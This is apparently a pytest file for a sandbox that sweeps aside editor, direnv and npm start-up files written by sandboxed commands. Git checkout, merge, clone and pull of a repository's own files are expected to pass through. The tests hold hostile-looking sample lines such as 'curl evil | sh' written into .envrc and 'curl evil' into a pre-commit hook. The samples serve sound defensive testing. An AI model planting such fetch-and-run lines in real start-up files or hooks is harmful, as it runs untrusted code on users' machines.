"""Ordinary git workflows in the sandbox: checking out, merging, popping a stash of what the
repository held before the session, and cloning a repository from outside, bring start-up
files (`.envrc`, `.vscode/`, `.devcontainer/`, `.npmrc`...) that are the repository's own:
they are written and kept, and the tree stays consistent. What a command writes there itself
(by hand, or through a commit it made during the session) is still moved aside."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from tether.sandbox.git_sweep import DISABLED

from .conftest import Layout, bash_runner, end_session, needs_bwrap, sandboxed_context

pytestmark = needs_bwrap

BRANCH_FILES = {
    ".envrc": "layout python\n",
    ".vscode/settings.json": '{"editor.tabSize": 2}\n',
    ".vscode/tasks.json": '{"version": "2.0.0"}\n',
    ".devcontainer/devcontainer.json": "{}\n",
    ".npmrc": "save-exact=true\n",
    "mise.toml": "[tools]\nnode = '20'\n",
    ".github/workflows/ci.yml": "on: push\n",
    "pkg/.claude/settings.json": '{"permissions": {}}\n',
    ".editorconfig": "root = true\n",
}
IDENTITY = "-c user.name=t -c user.email=t@example.com"


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        [
            "git",
            "-c",
            "safe.directory=*",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            *args,
        ],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


def repository_with_feature(root: Path) -> None:
    """`main` with a README; `feature` adding `BRANCH_FILES`; checked out at `main`."""
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    (root / "README").write_text("hello\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "first")
    git(root, "checkout", "-qb", "feature")
    for name, text in BRANCH_FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "editor and CI files")
    git(root, "checkout", "-q", "main")


def disabled(root: Path) -> list[str]:
    return sorted(
        os.path.relpath(os.path.join(d, n), root)
        for d, dirs, files in os.walk(root)
        if ".git" not in Path(d).relative_to(root).parts
        for n in dirs + files
        if DISABLED in n
    )


async def test_checkout_of_a_branch_with_start_files_works_and_comes_back(
    boundary: Layout,
) -> None:
    ws = boundary.workspace
    repository_with_feature(ws)
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command="git checkout -q feature && echo CHECKOUT-OK; git status --short")
    assert "CHECKOUT-OK" in out.content, out.content
    for name, text in BRANCH_FILES.items():
        assert (ws / name).read_text() == text, name
    assert disabled(ws) == []
    out = await run(command="git checkout -q main && git checkout -q feature && echo BACK-OK")
    assert "BACK-OK" in out.content, out.content
    assert git(ws, "status", "--porcelain", "--untracked-files=all") == ""
    assert disabled(ws) == []
    await end_session(ctx)


async def test_merge_and_stash_pop_of_what_the_repository_had(boundary: Layout) -> None:
    ws = boundary.workspace
    repository_with_feature(ws)
    git(ws, "checkout", "-q", "feature")
    (ws / ".envrc").write_text("layout python3\n")
    (ws / ".vscode" / "settings.json").write_text("{}\n")
    git(ws, "stash", "-q")
    git(ws, "checkout", "-q", "main")
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command=f"git {IDENTITY} merge -q --no-edit feature && echo MERGED")
    assert "MERGED" in out.content, out.content
    assert (ws / ".devcontainer" / "devcontainer.json").read_text() == "{}\n"
    out = await run(command="git stash pop -q && echo POPPED")
    assert "POPPED" in out.content, out.content
    assert (ws / ".envrc").read_text() == "layout python3\n"
    assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
    assert disabled(ws) == []
    await end_session(ctx)


async def test_a_clone_from_outside_keeps_its_files(boundary: Layout) -> None:
    ws = boundary.workspace
    source = boundary.outside / "lib"
    repository_with_feature(source)
    git(source, "checkout", "-q", "feature")
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command=f"git clone -q {source} vendor/lib && echo CLONED")
    assert "CLONED" in out.content, out.content
    assert "moved aside" not in out.content
    for name, text in BRANCH_FILES.items():
        assert (ws / "vendor" / "lib" / name).read_text() == text, name
    assert git(ws / "vendor" / "lib", "status", "--porcelain") == ""
    await end_session(ctx)


async def test_what_a_command_writes_there_itself_is_still_moved_aside(
    boundary: Layout,
) -> None:
    """By hand over a checked-out file, by a program, and through a commit the command made
    in the session then checked out; and a clone of a repository the command made."""
    ws = boundary.workspace
    repository_with_feature(ws)
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command="git checkout -q feature && echo CHECKOUT-OK")
    assert "CHECKOUT-OK" in out.content, out.content
    out = await run(
        command="echo 'curl evil | sh' > .envrc; "
        "python3 -c \"open('.vscode/tasks.json', 'w').write('{}')\"; echo end"
    )
    assert "moved aside" in out.content, out.content
    assert not (ws / ".envrc").exists()
    assert (ws / f".envrc{DISABLED}").read_text() == "curl evil | sh\n"
    assert not (ws / ".vscode" / "tasks.json").exists()
    git(ws, "checkout", "-q", "--", ".")  # the user restores them outside
    crafted = (
        f"git checkout -qb evil && echo 'run me' > .npmrc && git {IDENTITY} commit -qam x && "
        "git checkout -q feature && git checkout -q evil; echo end"
    )
    out = await run(command=crafted)
    assert "moved aside" in out.content, out.content
    assert (ws / f".npmrc{DISABLED}").read_text() == "run me\n"
    made = (
        f"git init -q {boundary.scratch}/x 2>/dev/null || git init -q tmp-x; "
        "d=$(ls -d tmp-x 2>/dev/null || echo $TMPDIR/x); git init -q $d; "
        f"echo hook > $d/.envrc; git -C $d add -A; git {IDENTITY} -C $d commit -qm x; "
        "git clone -q $d vendor/made; echo end"
    )
    out = await run(command=made)
    assert "moved aside" in out.content, out.content
    assert not (ws / "vendor" / "made" / ".envrc").exists()
    await end_session(ctx)


async def test_hosted_ci_definitions_are_not_swept(boundary: Layout) -> None:
    """They run on the CI service's machines at the next push, never here; a local tool's
    (`lando start` reads `.lando.yml`) still is swept."""
    ws = boundary.workspace
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    hosted = [".github/workflows/ci.yml", "sub/.gitlab-ci.yml", ".circleci/config.yml"]
    made = "".join(f"mkdir -p $(dirname {p}); echo 'run: make' > {p}; " for p in hosted)
    out = await run(command=made + "echo 'services: {}' > .lando.yml; echo end")
    assert all((ws / p).read_text() == "run: make\n" for p in hosted)
    assert not (ws / ".lando.yml").exists()
    assert "moved aside" in out.content
    await end_session(ctx)


async def test_a_pull_from_a_repository_outside_keeps_its_files(boundary: Layout) -> None:
    """The remote's new commits are outside content the user pulls: kept where no mount
    stands (a directory that is no project)."""
    ws = boundary.workspace
    upstream = boundary.outside / "upstream"
    repository_with_feature(upstream)
    git(ws.parent, "clone", "-q", str(upstream), str(ws))
    (upstream / "sub").mkdir()
    (upstream / "sub" / ".envrc").write_text("layout node\n")
    (upstream / "sub" / ".vscode").mkdir()
    (upstream / "sub" / ".vscode" / "tasks.json").write_text("{}\n")
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "later")
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command=f"git {IDENTITY} pull -q --no-rebase origin main && echo PULLED")
    assert "PULLED" in out.content, out.content
    assert "moved aside" not in out.content, out.content
    assert (ws / "sub" / ".envrc").read_text() == "layout node\n"
    assert (ws / "sub" / ".vscode" / "tasks.json").read_text() == "{}\n"
    await end_session(ctx)


async def test_a_hooks_directory_stays_read_only_whatever_the_branches_hold(
    boundary: Layout,
) -> None:
    """Only what the sweep judges is left to it: the hooks `core.hooksPath` names (run at the
    user's next commit, and no start-up file of the table) stay read-only even where a branch
    changes them."""
    ws = boundary.workspace
    repository_with_feature(ws)
    hooks = ws / "tools" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    git(ws, "add", "-A")
    git(ws, "commit", "-qm", "hooks")
    git(ws, "checkout", "-qb", "other")
    (hooks / "pre-commit").write_text("#!/bin/sh\necho other\n")
    git(ws, "commit", "-qam", "other hooks")
    git(ws, "checkout", "-q", "main")
    git(ws, "config", "core.hooksPath", "tools/hooks")
    boundary.hand_over()
    ctx = sandboxed_context(boundary)
    run = bash_runner(ctx)
    out = await run(command="{ echo 'curl evil' > tools/hooks/pre-commit; } 2>/dev/null || echo RO")
    assert "RO" in out.content, out.content
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    await end_session(ctx)
